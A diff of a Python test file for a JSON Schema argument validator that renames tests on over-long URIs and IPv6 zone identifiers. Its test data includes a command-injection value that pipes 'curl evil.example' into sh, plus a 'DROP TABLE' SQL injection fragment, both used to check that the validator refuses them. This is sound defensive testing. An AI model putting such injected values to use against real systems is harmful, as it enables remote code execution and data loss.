@@ -223,8 +223,8 @@ URI: dict[str, Any] = {"format": "uri"}
         {"$ref": "#/$defs/no", "$defs": {"no": {"not": URI}}},
     ],
 )
-def test_a6_a_text_too_long_to_be_checked_is_never_a_yes(schema: dict[str, Any]) -> None:
-    """Attack A6: given a schema under which a wrong format would be right, when the text is too long for its
+def test_a_text_too_long_to_be_checked_is_never_a_yes(schema: dict[str, Any]) -> None:
+    """Given a schema under which a wrong format would be right, when the text is too long for its
     format, then it is refused, as the short one is."""
     defs = {"$defs": schema.pop("$defs")} if "$defs" in schema else {}
     schema = {"type": "object", "properties": {"to": schema}, **defs}
@@ -233,12 +233,12 @@ def test_a6_a_text_too_long_to_be_checked_is_never_a_yes(schema: dict[str, Any])
     assert "is too long (11,021 characters) to be checked" in error.message
 
 
-def test_a6_a_text_too_long_to_be_checked_counts_for_no_list_that_must_not_hold_it() -> None:
+def test_a_text_too_long_to_be_checked_counts_for_no_list_that_must_not_hold_it() -> None:
     schema = {"properties": {"to": {"contains": URI, "minContains": 0, "maxContains": 0}}}
     assert check_args(schema, {"to": ["https://evil.example/" + LONG]})
 
 
-def test_a6_a_format_alone_is_told_beside_its_field() -> None:
+def test_a_format_alone_is_told_beside_its_field() -> None:
     (error,) = check_args({"properties": {"to": URI}}, {"to": LONG})
     assert (error.pointer, error.message) == (
         "/to",
@@ -249,8 +249,8 @@ def test_a6_a_format_alone_is_told_beside_its_field() -> None:
 @pytest.mark.parametrize(
     "zone", ["::1%$(curl evil.example|sh)", "fe80::1%eth0", "fe80::1%", "fe80::1%\n; DROP TABLE x"]
 )
-def test_a19_an_address_with_a_zone_is_no_ipv6(zone: str) -> None:
-    """Attack A19: the part after `%` could be anything. RFC 4291 has no zones."""
+def test_an_address_with_a_zone_is_no_ipv6(zone: str) -> None:
+    """The part after `%` could be anything. RFC 4291 has no zones."""
     schema = {"properties": {"to": {"format": "ipv6"}}}
     assert check_args(schema, {"to": zone})
     assert check_args(schema, {"to": "fe80::1"}) == []
